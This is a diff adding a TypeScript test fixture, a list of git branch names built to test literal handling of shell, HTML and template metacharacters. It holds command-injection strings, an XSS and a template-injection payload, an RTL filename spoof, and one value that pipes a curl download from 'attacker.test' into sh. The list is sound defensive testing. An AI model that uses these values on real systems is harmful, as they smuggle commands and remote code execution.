@@ -21,3 +21,25 @@ export const hostileBranches: readonly string[] = [
   'end/',
   '@{-1}',
 ]
+
+/** Branches that git can have, whatever a shell, a page or a path would make of their names. */
+export const literalBranches: readonly string[] = [
+  'main$(id)',
+  'main`id`',
+  `main$${'{IFS}'}id`,
+  'main|id',
+  'main&&id',
+  'main<x',
+  "main'id",
+  'main"id',
+  'main#id',
+  'main%0aid',
+  '<script>alert(1)</script>',
+  "{{constructor.constructor('return(1)')()}}",
+  'feat/#123',
+  'ümlaut/日本語',
+  'rtl\u202egnp.exe',
+  'refs/heads/main',
+  '@',
+  `main$(curl$${'{IFS}'}attacker.test|sh)`,
+]
